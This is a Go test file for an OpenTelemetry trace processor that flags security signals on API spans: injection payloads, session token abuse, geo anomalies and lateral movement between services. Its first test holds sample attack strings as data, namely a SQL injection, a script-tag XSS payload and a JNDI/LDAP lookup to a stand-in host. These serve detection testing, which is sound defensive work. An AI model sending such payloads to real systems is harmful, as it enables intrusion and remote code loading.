package apierrorprocessor

import (
	"fmt"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/ptrace"

	"github.com/otelcol-apierror/otelcol-apierror/internal/apierror"
)

// What succeeds may be an attack, too: these spans are clean, and get no verdict on a failure.

func TestPayloadsOfCallsThatSucceed(t *testing.T) {
	for name, test := range map[string]struct {
		attributes map[string]any
		severity   apierror.Severity
	}{
		"SQL in a query":           {map[string]any{"url.path": "/search", "url.query": "q=1%27%20OR%20%271%27%3D%271"}, apierror.SeverityLow},
		"in the former convention": {map[string]any{"http.target": "/search?q=1'%20OR%20'1'='1"}, apierror.SeverityLow},
		"a script in a path":       {map[string]any{"url.path": "/search/<script>alert(1)</script>"}, apierror.SeverityLow},
		"a lookup in a header": {
			map[string]any{"url.path": "/search", "http.request.header.x-api-version": []string{"${jndi:ldap://evil.example/a}"}}, apierror.SeverityMedium,
		},
		"a search": {map[string]any{"url.path": "/search", "url.query": "q=O%27Reilly+%26+Sons&page=2"}, apierror.SeverityNone},
		"a page":   {map[string]any{"url.path": "/orders/1042"}, apierror.SeverityNone},
	} {
		t.Run(name, func(t *testing.T) {
			td := ptrace.NewTraces()
			spans := td.ResourceSpans().AppendEmpty().ScopeSpans().AppendEmpty().Spans()
			// So many others are looked at before that no more are looked at for nothing.
			for range 2 * mostGlances {
				asked(spans, 200, map[string]any{"url.path": "/"}).SetSpanID(pcommon.SpanID{})
			}
			span := asked(spans, 200, test.attributes)
			enrich(t, createDefaultConfig().(*Config), td)
			verdict, _ := apierror.ReadSpan(span.Attributes())
			assert.Equal(t, test.severity, verdict.Security.Severity)
			assert.True(t, verdict.Failure.IsZero())
		})
	}
}

func TestASessionThatIsUsedFromEverywhere(t *testing.T) {
	td := ptrace.NewTraces()
	var last ptrace.Span
	for i := range 40 {
		r := request{"GET", "/cart", "/cart", 200, map[string]string{
			"session.id": "s1", "client.address": fmt.Sprintf("203.%d.113.7", i%10), "user_agent.original": fmt.Sprint("program", i%3),
		}}
		last = r.at(t, td, time.Duration(100-i)*time.Second)
	}
	enrich(t, createDefaultConfig().(*Config), td)
	verdict := verdictOf(last)
	assert.Equal(t, []apierror.Signal{apierror.SignalTokenAbuse}, verdict.Security.Signals)
	assert.Equal(t, apierror.Actor{Type: apierror.ActorSession, ID: "s1"}, verdict.Security.Actor)
}

func TestWhereAUserIs(t *testing.T) {
	for name, keys := range map[string][4]string{
		"semantic conventions": {"geo.location.lat", "geo.location.lon", "geo.country.iso_code", "geo.locality.name"},
		"geoip processor":      {"geo.location.lat", "geo.location.lon", "geo.country_iso_code", "geo.city_name"},
	} {
		t.Run(name, func(t *testing.T) {
			td := ptrace.NewTraces()
			from := func(lat, lon float64, country, city, agent string, before time.Duration) ptrace.Span {
				span := request{"GET", "/cart", "/cart", 200, map[string]string{
					"user.id": "alice", "client.address": "203.0.113.7", keys[2]: country, keys[3]: city, "user_agent.original": agent,
				}}.at(t, td, before)
				span.Attributes().PutDouble(keys[0], lat)
				span.Attributes().PutDouble(keys[1], lon)
				return span
			}
			for i := range 10 {
				from(52.52, 13.405, "DE", "Berlin", "Firefox", time.Hour-time.Duration(i)*time.Minute)
			}
			span := from(-33.87, 151.21, "AU", "Sydney", "curl", 40*time.Minute)
			enrich(t, createDefaultConfig().(*Config), td)
			verdict := verdictOf(span)
			assert.Equal(t, []apierror.Signal{apierror.SignalGeoAnomaly}, verdict.Security.Signals)
			assert.Contains(t, verdict.Security.Rationale, `"Sydney", "AU"`)
		})
	}
}

// A service that calls others is told by its own spans, those of the calling side.
func TestLateralMovementIsWrittenOnSpans(t *testing.T) {
	e := newTestEnricher(t, createDefaultConfig().(*Config))
	called := func(peer string, status int64, before time.Duration, id byte) apierror.Verdict {
		td := ptrace.NewTraces()
		span := request{"GET", "", "/internal", int(status), map[string]string{"server.address": peer}}.at(t, td, before)
		td.ResourceSpans().At(0).Resource().Attributes().PutStr("service.name", "mailer")
		span.SetKind(ptrace.SpanKindClient)
		span.SetSpanID(pcommon.SpanID{9, id, byte(status)})
		_, err := e.processTraces(t.Context(), td)
		require.NoError(t, err)
		return verdictOf(span)
	}
	for i := range byte(50) {
		known := called("catalog", 200, 2*time.Hour-time.Duration(i)*time.Minute, i)
		assert.Zero(t, known.Security)
	}
	var last apierror.Verdict
	for i, peer := range []string{"auth", "orders", "invoices"} {
		last = called(peer, 401, time.Hour-time.Duration(i)*time.Minute, byte(i))
	}
	assert.Equal(t, []apierror.Signal{apierror.SignalLateralMovement}, last.Security.Signals)
	assert.Equal(t, apierror.Actor{Type: apierror.ActorService, ID: "mailer"}, last.Security.Actor)
	assert.Equal(t, apierror.SeverityMedium, last.Security.Severity)
}
